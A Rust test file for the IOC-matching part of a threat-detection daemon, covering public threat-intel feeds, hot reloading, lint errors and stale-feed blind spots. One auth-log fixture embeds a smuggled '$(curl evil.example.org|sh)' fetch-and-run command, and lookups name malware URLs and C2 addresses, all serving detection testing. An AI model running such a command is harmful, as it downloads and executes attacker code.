//! `detect_ioc`: the public threat-intel corpora (WARDEN_CORPORA), a feed folder that
//! changes under a running daemon, and hostile feeds.

use std::collections::BTreeMap;
use std::path::Path;

use warden::tools::detection::ioc::{Feed, FeedFormat, FeedSource, FeedSpec, IocIndex};

use crate::support::{Daemon, copy_actors, corpus, eventually};

fn feed(name: &str, path: &Path) -> Feed {
    Feed {
        spec: FeedSpec {
            name: name.into(),
            path: path.display().to_string(),
            format: FeedFormat::Auto,
            confidence: 0.8,
            techniques: vec![],
            max_age_hours: None,
        },
        source: FeedSource::Path(path.to_path_buf()),
    }
}

/// Each public feed file loads into exactly the indicators it contains. The expected
/// counts were taken from the files independently of Warden (distinct values per
/// type; for Feodo also the file's own `# END n entries` trailer, for URLhaus the
/// 11,125 rows its provenance states); `unsupported` are entries of types Warden does
/// not match (MISP `filename`, `regkey`, STIX `x509-certificate`, `MATCHES`
/// comparisons), `invalid` the ones that are broken (`domain autuo.xicp.net`; MISP
/// `url` attributes `107.183.86`, `Data/dtl.dat`, `Data/glp.uin`; the other 11 of its
/// 14 `url` attributes are URLs, 8 of them written without a scheme).
#[test]
fn threat_intel_corpora_yield_exactly_their_indicators() {
    let Some(root) = corpus("threat-intel") else { return };
    type Case = (&'static str, &'static [(&'static str, usize)], usize, usize);
    let cases: &[Case] = &[
        ("abusech-urlhaus/urlhaus-online.20250421.headerless.csv", &[("url", 11_125)], 0, 0),
        ("stix2.1-examples/examples/indicator-for-c2-ip-address.json", &[("ipv4", 1)], 0, 0),
        ("stix2.1-examples/examples/indicator-to-campaign-relationship.json", &[("ipv4", 1)], 0, 0),
        ("stix2.1-examples/examples/indicators-for-C2-with-COA.json", &[("ipv4", 1), ("sha256", 1)], 0, 0),
        ("stix2.1-examples/examples/malicious-email-indicator-with-attachment.json", &[], 2, 0),
        ("stix2.1-examples/examples/infrastructure.json", &[], 0, 0),
        ("stix2.1-examples/examples/threat-reports/apt1.json", &[("cidr", 4), ("domain", 3), ("md5", 3)], 4, 0),
        ("stix2.1-examples/examples/threat-reports/poisonivy.json", &[("domain", 24), ("ipv4", 18)], 2, 1),
        (
            "misp-events/tests/57c4445b-c548-4654-af0b-4be3950d210f.json",
            &[("md5", 1), ("sha1", 1), ("sha256", 1)],
            2,
            0,
        ),
        ("misp-events/tests/misp_event.json", &[], 0, 0),
        (
            "misp-events/tests/mispevent_testfiles/existing_event.json",
            &[("domain", 18), ("ipv4", 11), ("sha1", 37)],
            15,
            0,
        ),
        (
            "misp-events/tests/reportlab_testfiles/long_event.json",
            &[("domain", 12), ("ipv4", 8), ("md5", 74), ("sha1", 57), ("sha256", 73), ("url", 11)],
            8,
            3,
        ),
        (
            "misp-events/tests/reportlab_testfiles/mainly_objects_1.json",
            &[("md5", 11), ("sha1", 3), ("sha256", 3)],
            4,
            0,
        ),
        ("misp-events/tests/reportlab_testfiles/sighting_1.json", &[("domain", 4), ("url", 1)], 0, 0),
    ];
    let mut all = Vec::new();
    for (rel, kinds, unsupported, invalid) in cases {
        let idx = IocIndex::load(&[feed(rel, &root.join(rel))]);
        let st = &idx.stats[*rel];
        let got: BTreeMap<&str, usize> = st.indicators.iter().map(|(k, n)| (k.as_str(), *n)).collect();
        let want: BTreeMap<&str, usize> = kinds.iter().copied().collect();
        assert_eq!(got, want, "{rel}");
        assert_eq!((st.unsupported, st.invalid), (*unsupported, *invalid), "{rel}: {:?}", idx.errors);
        all.push(feed(rel, &root.join(rel)));
    }
    // Feodo: three snapshots, each with its own trailer count.
    let mut files: Vec<_> = std::fs::read_dir(root.join("abusech-feodo")).unwrap().map(|e| e.unwrap().path()).collect();
    files.sort();
    assert_eq!(files.len(), 3);
    for f in &files {
        let text = std::fs::read_to_string(f).unwrap();
        let trailer: usize = text
            .lines()
            .rev()
            .find_map(|l| l.strip_prefix("# END ").and_then(|r| r.strip_suffix(" entries")))
            .expect("Feodo trailer")
            .parse()
            .unwrap();
        let name = f.file_name().unwrap().to_string_lossy().to_string();
        let idx = IocIndex::load(&[feed(&name, f)]);
        assert!(idx.errors.is_empty(), "{:?}", idx.errors);
        assert_eq!(idx.stats[&name].indicators.get(&warden::tools::detection::ioc::IocKind::Ipv4), Some(&trailer));
        let h = idx.match_ip("192.9.135.73".parse().unwrap()).expect("a listed C2");
        assert_eq!(h.label.as_deref(), Some("Pikabot"));
        all.push(feed(&name, f));
    }
    // Everything at once: one index, lookups of each kind.
    let idx = IocIndex::load(&all);
    eprintln!("threat-intel corpora: {} indicators in one index", idx.len());
    assert!(idx.match_ip("223.167.1.2".parse().unwrap()).is_some_and(|h| h.indicator == "223.166.0.0/15"));
    assert!(idx.match_domain("mail.hugesoft.org").is_some_and(|h| h.indicator == "hugesoft.org"));
    assert!(idx.match_url("http://117.209.87.242:60905/bin.sh").is_some());
    assert!(idx.match_hash("001DD76872D80801692FF942308C64E6").is_some());
    assert!(idx.match_ip("8.8.8.8".parse().unwrap()).is_none());
}

/// A feed folder changes under a running daemon: a new file is picked up without a
/// restart, a broken one is reported with its file and line and does not unload the
/// others, and hits become findings that name the feed and the indicator.
#[test]
fn feed_folder_reloads_without_restart() {
    let tmp = tempfile::tempdir().unwrap();
    let feeds = tmp.path().join("feeds");
    std::fs::create_dir(&feeds).unwrap();
    std::fs::write(feeds.join("c2.txt"), "# C2 servers\n198.51.100.77\n").unwrap();
    let actors = copy_actors(tmp.path());
    std::fs::write(
        actors.join("threat-detection/feeds.toml"),
        format!(
            "[[feed]]\nname = \"lab\"\npath = {:?}\nconfidence = 0.9\ntechniques = [\"T1071\"]\n",
            feeds.display().to_string()
        ),
    )
    .unwrap();
    let log = tmp.path().join("auth.log");
    std::fs::write(&log, "").unwrap();
    let source = format!(
        "[[sources]]\nname = \"auth\"\nkind = \"file\"\npath = {:?}\nformat = \"auth\"\n",
        log.display().to_string()
    );
    let d = Daemon::start(tmp.path(), &source, "", Some(actors));
    assert_eq!(d.metric("warden_intel_indicators"), Some(1));
    let inject = |ip: &str, n: u32| -> u64 {
        let line = format!("Mar  1 10:00:{n:02} web1 sshd[{n}]: Connection from {ip} port 5{n:04} on 10.0.0.1 port 22");
        let r = d.post("/v1/inject", &serde_json::json!({ "source": "auth", "lines": [line] }).to_string()).unwrap();
        assert_eq!(r.status, 202, "{}", r.body);
        serde_json::from_str::<serde_json::Value>(&r.body).unwrap()["findings"].as_u64().unwrap()
    };
    assert_eq!(inject("198.51.100.77", 1), 1);
    assert_eq!(inject("203.0.113.99", 2), 0, "not listed yet");

    std::fs::write(feeds.join("more.txt"), "203.0.113.99\n").unwrap();
    eventually(30, "the feed folder reloaded", || (d.metric("warden_intel_indicators") == Some(2)).then_some(()));
    assert_eq!(inject("203.0.113.99", 3), 1, "listed now, without a restart");

    // A broken file: reported with file and line; the others stay loaded.
    std::fs::write(feeds.join("broken.json"), "{\"type\": \"bundle\",\n \"objects\": [}").unwrap();
    let reloads = d.metric("warden_intel_reloads_total").unwrap();
    eventually(30, "the broken feed reloaded", || {
        (d.metric("warden_intel_reloads_total").unwrap() > reloads).then_some(())
    });
    assert_eq!(d.metric("warden_intel_indicators"), Some(2));
    let stderr = d.stderr();
    assert!(stderr.contains("broken.json:2: not valid JSON"), "{stderr}");

    let findings: Vec<serde_json::Value> = serde_json::from_str(&d.get("/v1/findings").unwrap().body).unwrap();
    let hit = findings.iter().find(|f| f["rule"] == "threat_intel_match" && f["src_ip"] == "203.0.113.99").unwrap();
    assert_eq!(hit["intel"][0]["feed"], "lab");
    assert_eq!(hit["intel"][0]["indicator"], "203.0.113.99");
    assert_eq!(hit["techniques"], serde_json::json!(["T1071"]));
    assert_eq!(hit["tactics"], serde_json::json!(["TA0011"]));
}

/// Broken feed entries are reported by `warden lint` as `file:line: reason` (exit 1),
/// while every good entry — in the same file and in others — loads and matches.
#[test]
fn broken_feeds_are_reported_and_the_rest_loads() {
    use std::process::Command;
    let tmp = tempfile::tempdir().unwrap();
    let actors = copy_actors(tmp.path());
    let feeds = actors.join("threat-detection/feeds");
    std::fs::write(feeds.join("local.txt"), "# local\n198.51.100.7\nnot-an-indicator!\nevil.example.org\n").unwrap();
    std::fs::write(feeds.join("bundle.json"), "{\"type\": \"bundle\",\n  \"objects\": [\n  {]}\n").unwrap();
    std::fs::write(
        actors.join("threat-detection/feeds.toml"),
        "[[feed]]\nname = \"local\"\npath = \"feeds\"\nconfidence = 0.9\n",
    )
    .unwrap();
    let out = Command::new(crate::support::BIN).args(["lint", "--actors"]).arg(&actors).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&out.stdout).replace(&format!("{}/", feeds.display()), "");
    let mut lines: Vec<&str> = stdout.lines().collect();
    lines.sort();
    assert_eq!(lines.len(), 2, "{stdout}");
    assert!(lines[0].starts_with("bundle.json:3: not valid JSON"), "{stdout}");
    assert_eq!(lines[1], "local.txt:3: `not-an-indicator!` is not an indicator");

    // A line that mentions both good indicators (hostile text around them, too).
    let log = tmp.path().join("auth.log");
    std::fs::write(
        &log,
        "Mar  1 10:00:00 web1 sshd[1]: Connection from 198.51.100.7 port 4444 on 10.0.0.1 port 22 rdomain \"$(curl evil.example.org|sh)\"\n",
    )
    .unwrap();
    let out = Command::new(crate::support::BIN)
        .args(["replay", "--findings", "--actors"])
        .arg(&actors)
        .arg(&log)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let mut hits: Vec<String> = findings
        .iter()
        .filter(|f| f["rule"] == "threat_intel_match")
        .map(|f| f["intel"][0]["indicator"].as_str().unwrap().to_string())
        .collect();
    hits.sort();
    assert_eq!(hits, ["198.51.100.7", "evil.example.org"]);
}

/// A feed whose download job stopped is a blind spot (`feed_stale`), and stops being one
/// once the feed is updated; a feed without `max_age_hours` is never stale.
#[test]
fn a_stale_feed_is_a_blind_spot_until_updated() {
    use warden::ingest::feeds::Reloadable as _;
    use warden::telemetry::{BlindKind, Metrics};
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("c2.txt");
    std::fs::write(&file, "203.0.113.5\n").unwrap();
    let three_hours_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3 * 3600);
    std::fs::File::options().write(true).open(&file).unwrap().set_modified(three_hours_ago).unwrap();
    let mut aged = feed("c2", tmp.path());
    aged.spec.max_age_hours = Some(2);
    let mut missing = feed("gone", &tmp.path().join("nowhere"));
    missing.spec.max_age_hours = Some(2);
    let m = std::sync::Arc::new(Metrics::default());
    let store = warden::tools::detection::ioc::FeedStore::new(
        vec![aged, missing, feed("unlimited", tmp.path())],
        Some(m.clone()),
    );
    store.check();
    let stale = |m: &Metrics| -> Vec<String> {
        m.blind_spots.open().into_iter().filter(|s| s.kind == BlindKind::FeedStale).map(|s| s.subject).collect()
    };
    assert_eq!(stale(&m), ["feed:c2", "feed:gone"]);
    let spot = m.blind_spots.open().into_iter().find(|s| s.subject == "feed:c2").unwrap();
    assert!(spot.detail.contains("3 hours ago") && spot.detail.contains("max_age_hours = 2"), "{}", spot.detail);
    std::fs::write(&file, "203.0.113.5\n198.51.100.9\n").unwrap();
    store.check();
    assert_eq!(stale(&m), ["feed:gone"]);
}
